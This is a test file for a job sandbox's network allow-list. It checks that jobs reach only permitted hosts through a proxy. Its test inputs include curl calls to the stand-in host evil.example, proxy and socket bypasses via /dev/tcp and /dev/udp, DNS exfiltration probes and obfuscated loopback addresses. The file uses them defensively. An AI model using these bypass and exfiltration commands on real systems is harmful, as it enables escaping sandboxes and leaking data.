import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { spawnSync } from "node:child_process";
import { mkdirSync, readdirSync, readFileSync, symlinkSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import { shell, until } from "../e2e/cli-kit.ts";
import { requirePart } from "../require.ts";
import { CONFINE_OFF, createTarget, type Target } from "./hostile-kit.ts";

const GREETING = "the host greets you";
/** Loopback, so that the test needs no network; not 127.0.0.1, which a job takes for its own. */
const HOST = "127.0.0.2";

let target: Target;
let server: Server;
let other: Server;
let allowed: string;
let forbidden: string;

async function listen(): Promise<{ server: Server; at: string }> {
  const started = createServer((_, response) => void response.end(GREETING));
  await new Promise<void>((resolve) => started.listen(0, HOST, () => resolve()));
  const address = started.address();
  return { server: started, at: `${HOST}:${typeof address === "object" ? address?.port : 0}` };
}

/** The job's own command has begun. */
function isSleeping(pid: string): boolean {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, "utf8") === "sleep\0" + "300\0";
  } catch {
    return false;
  }
}

const only = (domains: string, mode = "allow_list") => ({
  PICOCLAW_WORKER_NETWORK_MODE: mode,
  PICOCLAW_WORKER_NETWORK_ALLOWED_DOMAINS: domains,
});

describe.if(process.platform === "linux" && requirePart("bwrap") && requirePart("curl"))(
  "a job with an allow-list",
  () => {
    beforeAll(async () => {
      target = createTarget();
      ({ server, at: allowed } = await listen());
      ({ server: other, at: forbidden } = await listen());
    });
    afterAll(() => {
      server.close();
      other.close();
      target.remove();
    });

    /** The result, with the notes of its commands. */
    async function apply(
      lines: readonly string[],
      env: Record<string, string>,
      args: readonly string[] = [],
    ) {
      target.write(".patch.json", JSON.stringify(lines.map(shell)));
      const child = target.start(["apply", "--json", ...args, ".patch.json"], env);
      let out = "";
      let err = "";
      child.stdout?.on("data", (data) => (out += data));
      child.stderr?.on("data", (data) => (err += data));
      const code = await new Promise<number | null>((resolve) => child.on("close", resolve));
      const json = (out.startsWith("{") ? JSON.parse(out) : {}) as {
        results?: { success: boolean; output: string; notes?: string[] }[];
        notes?: string[];
        job_id?: string;
      };
      // Nothing ran: a test that expects results fails with the output.
      if (json.results === undefined && code !== 3) throw new Error(`no results: ${code} ${out}${err}`);
      return {
        code,
        jobId: json.job_id ?? "",
        err: err + out,
        results: json.results ?? [],
        notes: json.notes ?? [],
      };
    }

    const programs: Record<string, (url: string) => string> = {
      curl: (url) => `curl -sS -m 5 http://${url}/`,
      python: (url) =>
        `python3 -c 'import urllib.request as u; print(u.urlopen("http://${url}/", timeout=5).read().decode())'`,
      bun: (url) => `${process.execPath} -e 'console.log(await (await fetch("http://${url}/")).text())'`,
      node: (url) =>
        `node -e 'require("http").get({host:"127.0.0.1",port:3128,path:"http://${url}/"},r=>r.pipe(process.stdout))'`,
      "a tunnel": (url) => `curl -sS -m 5 --proxytunnel http://${url}/`,
    };

    test("reaches the hosts on it, with the programs people use", async () => {
      const there = Object.entries(programs).filter(
        ([name]) => !["python", "node"].includes(name) || requirePart(name === "python" ? "python3" : name),
      );
      const { results } = await apply(
        there.map(([, line]) => line(allowed)),
        only(allowed),
      );
      expect(results.map(({ output }) => output.trim())).toEqual(there.map(() => GREETING));
    });

    test("reaches no other host, and the result names the refused one", async () => {
      const lines = [
        programs.curl?.(forbidden),
        programs["a tunnel"]?.(forbidden),
        `curl -sS -m 5 http://evil.example/; curl -sS -m 5 https://evil.example/; true`,
        `curl -sS -m 5 http://${allowed}@evil.example/`,
        `curl -sS -m 5 -H 'Host: ${allowed}' http://evil.example/`,
      ] as string[];
      const { results, jobId } = await apply(lines, only(`${allowed},*.good.example`));
      for (const { output } of results) expect(output).not.toContain(GREETING);
      expect(results[0]?.output).toBe(`picoclaw: ${forbidden} is allowed, but not on this port\n`);
      expect(results[2]?.output).toContain("picoclaw: evil.example:80 is not among the allowed domains");
      expect(results[2]?.notes).toEqual([
        "network: 2 requests to evil.example refused (not in worker.network.allowed_domains)",
      ]);
      const journal = target.run(["show", "--json", jobId]).out;
      expect(journal).toContain('"code":"host-refused","host":"evil.example"');
    });

    const ways: Record<string, () => string> = {
      "past the proxy": () => `curl -sS -m 5 --noproxy '*' http://${allowed}/`,
      "without the variables": () => `env -i curl -sS -m 5 http://${allowed}/`,
      "by a socket": () =>
        `exec 3<>/dev/tcp/${allowed.replace(":", "/")} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3`,
      "by IPv6": () => `curl -sS -m 5 --noproxy '*' http://[::ffff:${HOST}]:${allowed.split(":")[1]}/`,
    };

    test.each(Object.keys(ways))(
      "reaches even an allowed host only through the proxy: not %s",
      async (way) => {
        const line = (ways[way] as () => string)();
        const [ran] = (await apply([line], only(allowed))).results;
        expect(ran?.success).toBe(false);
        expect(ran?.output).not.toContain(GREETING);
        const [red] = (await apply([line], { PICOCLAW_WORKER_NETWORK_MODE: "on" })).results;
        expect(red?.output).toContain(GREETING);
      },
    );

    test("asks no name server, and cannot carry anything out in a name", async () => {
      const lines = [
        "getent hosts secret.evil.example",
        `curl -sS -m 5 --noproxy '*' http://secret.evil.example/`,
        "exec 3<>/dev/udp/1.1.1.1/53 && echo x >&3",
        "exec 3<>/dev/udp/8.8.8.8/53 && echo x >&3",
        "grep -v -e lo: -e '|' /proc/net/dev",
      ];
      const { results } = await apply(lines, only("*"));
      expect(results.map(({ success }) => success)).toEqual(lines.map(() => false));
      expect(results[1]?.notes?.[0]).toContain("only through the proxy");
    });

    test("is not led to this machine by a star, nor by any spelling of its address", async () => {
      const port = allowed.split(":")[1];
      const spelled = [
        allowed,
        `2130706434:${port}`,
        `0x7f.2:${port}`,
        `localhost:${port}`,
        `[::1]:${port}`,
        `127.0.0.1:${port}`,
      ];
      const lines = spelled.map((url) => `curl -sS -m 5 --noproxy '' -g http://${url}/`);
      const { results } = await apply(lines, only("*:*"));
      for (const { output } of results) {
        expect(output).toContain("picoclaw: ");
        expect(output).not.toContain(GREETING);
      }
      expect(results[0]?.notes?.[0]).toContain("its address is private");
    });

    test("has its own loopback", async () => {
      const serve = `${process.execPath} -e 'Bun.serve({port:4567,hostname:"127.0.0.1",fetch:()=>new Response("mine")})' & sleep 0.01; curl -sS --retry 20 --retry-delay 0 --retry-connrefused -m 8 http://127.0.0.1:4567/`;
      const { results } = await apply([serve], only(""));
      expect(results[0]?.output).toContain("mine");
    });

    test("that leaves a program asking learns of it, whichever command runs by then", async () => {
      const lines = [
        "(curl -s http://late.example/; echo > asked) & disown; true",
        "while ! [ -s asked ]; do sleep 0.01; done",
      ];
      const { notes, results } = await apply(lines, only(allowed));
      const all = [...results.flatMap((one) => one.notes ?? []), ...notes].join("\n");
      expect(all).toContain("network: 1 request to late.example refused");
    });

    test("as a preview has no network without --allow-net, and no more than the list with it", async () => {
      const lines = [programs.curl?.(allowed), programs.curl?.(forbidden)] as string[];
      const off = await apply(lines, only(allowed), ["--preview"]);
      expect(off.results.map(({ output }) => output.includes(GREETING))).toEqual([false, false]);
      const on = await apply(lines, only(allowed), ["--preview", "--allow-net"]);
      expect(on.results.map(({ output }) => output.includes(GREETING))).toEqual([true, false]);
    });

    test.each([
      ["confinement off", CONFINE_OFF],
      ["a copy", { PICOCLAW_WORKER_TRANSACTION: "copy" }],
      ["a copy with confinement off", { PICOCLAW_WORKER_TRANSACTION: "copy", ...CONFINE_OFF }],
    ])("keeps it with %s", async (_, env) => {
      const lines = [
        programs.curl?.(allowed),
        programs.curl?.(forbidden),
        ways["past the proxy"]?.(),
      ] as string[];
      const { results } = await apply(lines, { ...only(allowed), ...env });
      expect(results.map(({ output }) => output.includes(GREETING))).toEqual([true, false, false]);
    });

    test("keeps it where its folder lies deeper than the name of a socket can say", async () => {
      const PICOCLAW_HOME = join(target.folder, "deep".repeat(20), "deeper".repeat(20), "home");
      const { results } = await apply([programs.curl?.(allowed) as string], {
        ...only(allowed),
        PICOCLAW_HOME,
      });
      expect(results[0]?.output).toBe(GREETING);
    });

    test("runs nothing where the network cannot be limited", async () => {
      const bin = join(target.folder, "bin");
      mkdirSync(bin, { recursive: true });
      for (const name of ["sh", "bash", "git", "env", "find", "readlink", "dirname", "uname", "head"])
        symlinkSync(Bun.which(name) as string, join(bin, name));
      for (const env of [{ PATH: bin }, { PICOCLAW_WORKER_TRANSACTION: "none" }]) {
        for (const mode of ["allow_list", "off"]) {
          const { code, err } = await apply(["echo ran"], { ...only(allowed, mode), ...env });
          expect(code).toBe(3);
          expect(err).toContain(`worker.network.mode is ${mode}, but`);
        }
      }
    });

    test("leaves no socket, though it is killed", async () => {
      const sockets = () => spawnSync("find", [target.home, "-type", "s"], { encoding: "utf8" }).stdout;
      await apply(["true"], only(allowed));
      expect(sockets()).toBe("");
      target.write(".patch.json", JSON.stringify([shell("sleep 300")]));
      const job = target.start(["apply", ".patch.json"], only(allowed));
      await until(() => sockets() !== "" && readdirSync("/proc").some((pid) => isSleeping(pid)));
      job.kill("SIGKILL");
      await new Promise((resolve) => job.on("close", resolve));
      await apply(["true"], only(allowed));
      expect(sockets()).toBe("");
    });

    test("that is switched off reaches nothing at all", async () => {
      const lines = [programs.curl?.(allowed), ways["past the proxy"]?.()] as string[];
      for (const args of [[], ["--preview", "--allow-net"]]) {
        const { results } = await apply(lines, only(allowed, "off"), args);
        expect(results.map(({ success }) => success)).toEqual([false, false]);
      }
    });
  },
);
